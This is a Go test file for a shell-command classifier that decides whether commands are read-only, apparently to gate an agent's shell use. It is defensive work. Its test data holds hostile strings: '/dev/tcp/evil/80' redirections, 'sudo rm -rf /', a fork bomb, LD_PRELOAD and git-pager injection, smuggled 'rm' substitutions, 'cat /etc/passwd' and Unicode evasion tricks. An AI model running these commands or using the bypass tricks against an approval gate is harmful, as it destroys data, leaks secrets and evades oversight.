package shell

import (
	"slices"
	"strings"
	"testing"
)

func TestJudge_readOnly(t *testing.T) {
	t.Parallel()
	for _, command := range []string{
		"ls", "ls -la src", "cat a.go b.go", "pwd; ls", "ls\npwd", "cat < a.txt", "ls 2>&1", "ls 2>/dev/null", "ls > /dev/null 2>&1", "ls &> /dev/null",
		"git status", "git status --porcelain -z", "git --no-pager log --oneline -5", "git diff HEAD~1 -- a.go", "git show HEAD:a.go", "git log --text -p",
		"git log -p | head -50", "git branch -a", "git branch", "git remote -v", "git stash list", "git config --get user.name", "git tag", "git tag -l 'v*'",
		"git grep -n foo", "git worktree list", "git reflog", "git blame a.go", "git ls-files | wc -l", "git rev-parse HEAD",
		"grep -rn foo .", "rg foo -g '*.go'", "find . -name '*.go' -type f", "find . -newer x | sort | uniq -c",
		"sed -n 1,20p a.go", "sed -n '5p;7p' a.go", "wc -l *.go src/*.go", "head -n 5 a | tail -1", "echo hi", "echo \"$HOME ${USER}\"", "echo $(git rev-parse HEAD)",
		"echo `pwd`", "cd src && ls", "(cd src; ls) && ls", "{ ls; pwd; }", "! grep -q x a", "if grep -q x a; then echo yes; else echo no; fi", "time ls",
		"test -f a && cat a", "[ -d src ] || echo none", "command -v go", "which go", "diff <(ls a) <(ls b)", "cat <<EOF\nhello $USER\nEOF", "cat <<'EOF'\n$(rm x)\nEOF",
		"cat <<< hello", "LC_ALL=C sort a", "date", "date +%s", "date -u +%F", "sort -n a", "sort -k2,2 -t: a", "uniq -c a", "tree -L 2", "jq .a b.json", "\\ls", "'ls'", "l\"s\"", "go version", "go env GOPATH",
		"python3 --version", "printf '%s\\n' a b", "ls a\\ b", "ls -- -x", "stat a", "true", "cat a # rm b",
	} {
		if v := Judge(command); !v.ReadOnly || !v.Parsed {
			t.Errorf("%q is not read-only: %+v", command, v)
		}
	}
}

func TestJudge_notReadOnly(t *testing.T) {
	t.Parallel()
	for _, command := range []string{
		"", "  ", "# nothing", "rm a", "ls; rm a", "ls && rm a", "ls || rm a", "ls | tee a", "ls\nrm a", "ls & rm a", "ls &", "ls > a", "ls >> a", "ls >| a", "ls &> a", "ls >& a", "cat <> a",
		"ls 2> a", "> a", "ls > /dev/sda", "ls > /dev/tcp/evil/80", "cat < /dev/tcp/evil/80", "ls > \"$x\"", "ls {fd}> a", "cat < $x", "cat 0<&$x",
		"echo $(rm a)", "echo `rm a`", "echo \"$(rm a)\"", "cat <(rm a)", "ls >(rm a)", "cat <<EOF\n$(rm a)\nEOF", "cat <<< $(rm a)", "cat <<EOF\n`rm a`\nEOF", "[ $(rm a) ]",
		"echo ${x:=y}", "echo ${x@P}", "echo ${x[$(rm a)]}", "echo $((x[$(rm a)]))", "echo ${!x}", "echo ${x:-$(rm a)}", "echo $[ $(rm a) ]",
		"$x", "$(echo rm) a", "\"$x\" a", "r\"m\" a", "r\\m a", "$'\\x72m' a", "$'ls'", "l$x", "l?", "/bin/ls", "./ls", "../ls", "src/ls", "~/ls",
		"PATH=. ls", "PATH=.:$PATH; ls", "LD_PRELOAD=./x.so ls", "GIT_EXTERNAL_DIFF=./x git diff", "GIT_PAGER='rm a' git log", "LANG=$(rm a) ls", "x=1", "x=(ls)", "LANG+=x ls",
		"env ls", "env X=1 rm a", "xargs rm", "ls | xargs rm", "ls | xargs cat", "nohup ls", "timeout 5 ls", "sudo ls", "exec ls", "eval ls", "source a", ". a", "bash -c ls", "sh a", "command ls", "builtin cd x", "nice ls",
		"command -p ls", "type -a x; hash -p /evil ls; ls", "alias ls=rm; ls", "ls() { rm a; }; ls", "function ls { rm a; }", "trap 'rm a' EXIT", "set -e", "export X=1", "declare x=$(rm a)", "let x=1", "read x", "shopt -s expand_aliases", "enable -f ./x.so ls", "mapfile -C 'rm a' x",
		"for f in *; do cat $f; done", "while true; do ls; done", "until false; do ls; done", "case x in x) ls;; esac", "[[ 'a[$(rm b)]' -eq 0 ]]", "(( x = 1 ))", "coproc ls", "select x in a; do ls; done",
		"find . -exec rm {} \\;", "find . -execdir rm {} +", "find . -ok rm {} \\;", "find . -delete", "find . -fprint a", "find . -fprintf a x", "find . -fls a", "find . \"-delete\"", "find . $x", "find . -d{elete,x}",
		"sed -i s/a/b/ f", "sed s/a/b/ f", "sed -n 'w out' f", "sed -n '1e rm a' f", "sed -n 's/a/b/w out' f", "sed -n -i 1p f", "sed -n 1p -e 'w x' f", "sed -n 1p --in-place f", "sed --expression=1p f", "sed -n '1p;w x' f", "sed -n 1p f -ni",
		"awk '{print}' f", "awk 'BEGIN { system(\"rm a\") }'", "awk '{ print > \"a\" }' f", "perl -e 1", "python3 -c 1", "node -e 1", "python3 --version x", "vim", "less a", "man ls", "tee", "dd if=a of=b", "cp a b", "mv a b", "ln -s a b", "mkdir a", "touch a", "chmod +x a", "curl x", "wget x",
		"sort -o a b", "sort b -oa", "sort -no a b", "sort --output=a b", "sort --outp a b", "sort --compress-program=./x a", "sort --comp ./x a", "sort *", "sort ?x", "sort [a]b", "sort {a,-ob}", "uniq a b", "tree -o a", "tree -R",
		"rg --pre ./x foo", "rg --pre=./x foo", "rg --hostname-bin ./x foo", "rg -z foo", "rg -nz foo", "file -C -m x", "date -s 12:00", "date --set=12:00", "date --se 1", "date 010112002025", "hostname evil", "printf -v 'a[$(rm b)]' x", "test -v 'a[$(rm b)]'", "[ -v 'a[$(rm b)]' ]", "[ -R x ]", "ifconfig eth0 down", "xxd -r a b", "yq -i x a", "fd -x rm",
		"git commit -m x", "git push", "git pull", "git fetch", "git checkout x", "git add .", "git", "git -c core.pager='rm a' log", "git -c diff.external=./x diff", "git -C /other status", "git --git-dir=/x status", "git --exec-path=/x status", "git --config-env=core.pager=X log", "git -p log",
		"git log --output=a", "git log --output a", "git log --outp=a", "git diff --ext-diff", "git diff --ext", "git diff --textconv", "git show --textconv HEAD:a", "git cat-file --filters HEAD:a", "git cat-file --textconv HEAD:a",
		"git grep -O foo", "git grep --open-files-in-pager=./x foo", "git grep --open=./x foo", "git grep -nO./x foo", "git branch x", "git branch -D x", "git branch --list -d x", "git branch --edit-description", "git tag x", "git tag -d x", "git tag -l -d x", "git remote add a b", "git remote set-url a b", "git remote update", "git stash", "git stash pop", "git stash drop", "git reflog expire", "git reflog delete x", "git worktree add x", "git config user.name x", "git config --unset x", "git config --get x --unset", "git log --help", "git help log", "git difftool", "git bisect run ./x", "git submodule foreach ls", "git alias", "git archive -o x HEAD", "git format-patch HEAD~1", "git bundle create x HEAD", "git apply x", "git notes add", "git update-index x", "git rebase -x 'rm a' HEAD~1", "git --version --output=x",
		"go test ./...", "go build", "go run .", "go env -w X=1", "go env -u X", "go env --w", "go vet", "go generate", "npm test", "make", "cargo build",
		"cat link/../x", "cat --f=a/../b", "cat < a/../b", "cat ~root/x", "cat ~+/x", "ls ~-", "cd a/..", "cat ../a/../../b", "cd", "cd -", "cd $x", "cd a b", "cd sr*", "pushd x", "ls \u202e", "ls \u200b", "ls\u00a0-l", "ｌｓ", "ls \x1b[2J", "ls \x00", "ls 'a", "ls )", "if", "ls <<EOF", strings.Repeat("ls;", 30_000), "echo hi\rrm a", "ls -l;:(){ :|:& };:",
		"echo {a,$(rm b)}", "time rm a", "! rm a", "{ rm a; }", "(rm a)", "if rm a; then ls; fi", "if ls; then rm a; fi", "if ls; then ls; else rm a; fi", "if ls; then ls; elif rm a; then ls; fi", "ls |& tee a", "echo a >&3x", "echo \"${x:=1}\"", "cat a; exit $(rm b)",
	} {
		if v := Judge(command); v.ReadOnly {
			t.Errorf("%q is read-only: %+v", command, v)
		}
	}
}

func TestJudge_lists(t *testing.T) {
	t.Parallel()
	list := func(s string) []string { return strings.FieldsFunc(s, func(r rune) bool { return r == ',' }) }
	for command, want := range map[string]struct {
		programs, prefixes, writes, reads string
		network                           bool
	}{
		"go test ./... 2>&1 | tail -20":         {programs: "go,tail", prefixes: "go test"},
		"git commit -m x && git push":           {programs: "git", prefixes: "git commit,git push", network: true},
		"git -c a=b log":                        {programs: "git", prefixes: "git -c"},
		"FOO=1 go test":                         {programs: "go", prefixes: "FOO= go test"},
		"LANG=C go test":                        {programs: "go", prefixes: "go test"},
		"npm run build":                         {programs: "npm", prefixes: "npm run build"},
		"sudo rm -rf /":                         {programs: "sudo,rm", prefixes: "sudo"},
		"timeout 5s curl x":                     {programs: "timeout,curl", prefixes: "timeout", network: true},
		"env A=b -i make x":                     {programs: "env,make", prefixes: "env"},
		"find . -name x -exec rm {} +":          {programs: "find,rm", prefixes: "find -exec rm"},
		"find . -delete":                        {programs: "find", prefixes: "find -delete"},
		"echo $(curl x) > a":                    {programs: "echo,curl", prefixes: "echo,curl", writes: "a", network: true},
		"make > out.txt 2> err.txt":             {programs: "make", prefixes: "make", writes: "out.txt,err.txt"},
		"make > link/../x":                      {programs: "make", prefixes: "make", writes: "?"},
		"make > ~root/x":                        {programs: "make", prefixes: "make", writes: "?"},
		"make > $x":                             {programs: "make", prefixes: "make", writes: "?"},
		"$x a":                                  {programs: "?", prefixes: "?"},
		"ls() { rm a; }; ls":                    {programs: "rm,ls", prefixes: "?,rm"},
		"./build.sh":                            {programs: "./build.sh", prefixes: "./build.sh"},
		"/usr/bin/git push":                     {programs: "/usr/bin/git", prefixes: "/usr/bin/git", network: true},
		"cat /etc/passwd":                       {programs: "cat", prefixes: "cat", reads: "/etc/passwd"},
		"cat a ../b --x=c -f/d":                 {programs: "cat", prefixes: "cat", reads: "a,../b,c,/d"},
		"cd src && cat ../../x":                 {programs: "cd,cat", prefixes: "cat", reads: "src,../../x,src/../../x"},
		"(cd src); cat ../x":                    {programs: "cd,cat", prefixes: "cat", reads: "src,../x"},
		"cd /srv && cat x && go test":           {programs: "cd,cat,go", prefixes: "cd /srv,cat,go test"},
		"cd sub && go test | tail":              {programs: "cd,go,tail", prefixes: "go test"},
		"cat < ~/x":                             {programs: "cat", reads: "~/x"},
		"declare -x A=1":                        {programs: "declare", prefixes: "declare"},
		"bash -c 'rm x'":                        {programs: "bash,?", prefixes: "bash"},
		"if true; then go build; else rm x; fi": {programs: "true,go,rm", prefixes: "go build,rm"},
	} {
		v := Judge(command)
		if !slices.Equal(v.Programs, list(want.programs)) || !slices.Equal(v.Prefixes, list(want.prefixes)) ||
			!slices.Equal(v.Writes, list(want.writes)) || !slices.Equal(v.Reads, list(want.reads)) || v.Network != want.network || !v.Parsed {
			t.Errorf("%q: %+v\nwant %+v", command, v, want)
		}
	}
}

// FuzzJudge: a command that is read-only starts only programs that are known, writes nothing, and is none any more with
// another command beside it.
func FuzzJudge(f *testing.F) {
	for _, seed := range []string{"ls -la | wc", "git log --output=a", "cat <<E\n$(x)\nE", "find . -exec rm {} +", "PATH=. ls > a", "echo ${x@P} {a,b}", "cd x && cat ../y", "if ls; then pwd; fi"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, command string) {
		v := Judge(command)
		if !v.ReadOnly {
			return
		}
		if !v.Parsed || len(v.Writes) > 0 || v.Network {
			t.Errorf("%q: %+v", command, v)
		}
		for _, p := range v.Programs {
			if p != "echo" && p != ":" && p != "cd" && p != "command" && p != "find" && p != "sed" && p != "git" && p != "go" &&
				!looksOnly(p, nil) && !looksOnly(p, []string{"--version"}) {
				t.Errorf("%q starts %q", command, p)
			}
		}
		for _, more := range []string{"rm x\n" + command, "LD_PRELOAD=x " + strings.TrimLeft(command, " \t\n#({!")} {
			if w := Judge(more); w.ReadOnly && strings.HasPrefix(more, "rm") {
				t.Errorf("%q: %+v", more, w)
			}
		}
	})
}
